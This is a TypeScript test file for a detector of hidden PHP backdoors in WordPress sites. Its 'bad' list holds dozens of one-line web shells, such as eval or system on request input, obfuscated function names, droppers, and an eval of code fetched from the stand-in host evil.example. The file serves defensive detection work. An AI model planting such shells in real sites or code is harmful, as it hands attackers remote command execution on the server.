import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findHiddenCode } from '../../../src-main/wordpress/hidden-code/find-hidden-code.ts';
import { cpuTimer } from '../cpu-time.ts';

const found = (code: string) => findHiddenCode(Buffer.from(code, 'latin1'));
const worst = (code: string) => found(code)?.[0]?.sure ?? 'nothing';
const encoded = Buffer.from('x'.repeat(600)).toString('base64');

/** As it was found on hacked sites, in the shapes that are told of everywhere; nothing here does anything when it is read. */
const bad: [what: string, code: string, sure: string][] = [
  ['a shell in a line', `<?php @eval($_POST['x']);`, 'certain'],
  ['the same, spread by comments and case', `<?php EvAl /* x */ ( /**/ $_REQUEST [ 'x' ] ) ;`, 'certain'],
  ['the same over a variable', `<?php $c = $_COOKIE['c']; $d = $c; eval($d);`, 'likely'],
  ['raw input', `<?php eval(file_get_contents('php://input'));`, 'certain'],
  ['a header', `<?php eval($_SERVER['HTTP_X_RUN']);`, 'certain'],
  ['decoded', `<?php eval(gzinflate(base64_decode('${encoded}')));`, 'likely'],
  ['decoded before', `<?php $a = base64_decode('ZWNobyAxOw=='); $b = $a; eval('?>' . $b);`, 'likely'],
  ['fetched', `<?php eval(file_get_contents('http://evil.example/x.txt'));`, 'likely'],
  ['fetched by WordPress', `<?php $r = wp_remote_get($u); $b = wp_remote_retrieve_body($r); eval($b);`, 'likely'],
  ['out of the database', `<?php eval(get_option('_site_transient_x'));`, 'likely'],
  ['assert', `<?php assert($_GET['a']);`, 'certain'],
  ['create_function', `<?php $f = create_function('', base64_decode($x)); $f();`, 'likely'],
  ['a function by name', `<?php $_GET['a']($_GET['b']);`, 'certain'],
  ['a function by name, over a variable', `<?php $f = $_POST['f']; $f($_POST['a']);`, 'likely'],
  ['a callback', `<?php array_map($_POST['f'], array($_POST['a']));`, 'certain'],
  ['a callback in second place', `<?php usort($list, $_REQUEST['by']);`, 'certain'],
  ['a command', `<?php system($_GET['cmd']);`, 'certain'],
  ['backticks', '<?php echo `{$_GET["c"]}`;', 'certain'],
  ['a command over a variable', `<?php $c = $_POST['c'] . ' 2>&1'; passthru($c);`, 'likely'],
  ['an included request', `<?php include $_GET['page'];`, 'likely'],
  ['an included icon', `<?php @include "\\x2fvar\\057www/favicon_a1.ico";`, 'likely'],
  ['an included address', `<?php include 'data://text/plain;base64,PD9waHA=';`, 'likely'],
  ['an include out of /tmp', `<?php require_once '/tmp/.sess';`, 'likely'],
  ['preg_replace /e', `<?php preg_replace('/.*/e', $x, '');`, 'likely'],
  ['a spelled name', `<?php $f = 'ass' . 'ert'; $f($x);`, 'likely'],
  ['an escaped name', `<?php $f = "\\x65\\x76al"; $f($x);`, 'likely'],
  ['a turned name', `<?php $f = strrev('edoced_46esab');`, 'likely'],
  ['a name by chr', `<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('id');`, 'likely'],
  ['a rotated name', `<?php $f = str_rot13('riny');`, 'likely'],
  ['a dropper', `<?php file_put_contents('x.php', $_POST['data']);`, 'likely'],
  ['after a mistake', `<?php if ( { @eval($_POST['x']);`, 'certain'],
  ['short tags', `GIF89a<? eval($_POST['x']); ?>`, 'certain'],
  ['in a namespace', `<?php namespace A; \\system($_GET['c']);`, 'certain'],
];

const honest: [what: string, code: string][] = [
  ['a comment', `<?php // eval($_POST['x']); system($_GET['c'])`],
  ['a string', `<?php echo "eval(\\$_POST['x'])";`],
  ['a method of that name', `<?php $redis->eval($_POST['script']); Foo::system($_GET['x']); function exec($a) {}`],
  ['an icon', `<?php add_menu_page('x', 'y', 'read', 'z', '', 'data:image/svg+xml;base64,${encoded}');`],
  ['a callback of its own', `<?php array_map('sanitize_text_field', $_POST['list']); usort($a, 'cmp');`],
  ['a template', `<?php include get_template_directory() . '/parts/' . sanitize_file_name($name) . '.php';`],
  ['a log', `<?php file_put_contents($log, date('c') . $message);`],
  ['an answer decoded', `<?php $data = json_decode(base64_decode($_POST['data']), true);`],
  ['a loader by WP-CLI', `<?php require WPMU_PLUGIN_DIR . '/my-plugin/my-plugin.php';`],
];

describe('what hides', () => {
  it.each(bad)('%s', (_, code, sure) => expect(worst(code)).toBe(sure));
});

describe('what is honest', () => {
  it.each(honest)('%s', (_, code) => expect(found(code)).toEqual([]));
});

const corpora = ['6.1', '6.8', '7.1'].map((version) => join(homedir(), '.cache/resalt-fleet', `wordpress-${version}`));
const there = ['/usr/share/wordpress', ...corpora].filter(existsSync);
it.skipIf(there.length === 0)(
  'says nothing worse than possible of any file of WordPress and what is packaged with it',
  () => {
    const files = execFileSync('find', ['-L', ...there, '-name', '*.php', '-type', 'f'], { maxBuffer: 1 << 28 });
    const all = files.toString().trim().split('\n');
    expect(all.length).toBeGreaterThan(900);
    const loud = all.flatMap((file) => {
      const hidden = findHiddenCode(readFileSync(file));
      if (hidden === null) return [`${file}: can't be read`];
      return hidden.filter(({ sure }) => sure !== 'possible').map(({ what, line }) => `${file}:${line} ${what}`);
    });
    expect(loud).toEqual([]);
  },
  120_000,
);

it('survives whatever bytes a file holds, and answers in bounded time', () => {
  const words = fc.constantFrom(
    '<?php ',
    'eval',
    '(',
    ')',
    '$a',
    '=',
    '`',
    '"',
    "'",
    '.',
    '[',
    ']',
    '{',
    '}',
    '<<<X\n',
    'chr(1).',
    '/*',
    '?>',
    '$_POST',
    '\\',
    '\0',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(words, fc.string({ maxLength: 5 })), { maxLength: 200 }), (parts) => {
      const hidden = found(`<?php ${parts.join('')}`);
      expect(hidden === null || hidden.length <= 20).toBe(true);
    }),
    { numRuns: 300 },
  );
  const spent = cpuTimer();
  for (const one of ['`', '(', '$a=$_POST;', '"a".', 'chr(1).', '$a[', '$a();'])
    found(`<?php ${one.repeat(Math.floor(60_000 / one.length))}`);
  expect(spent()).toBeLessThan(10_000);
});
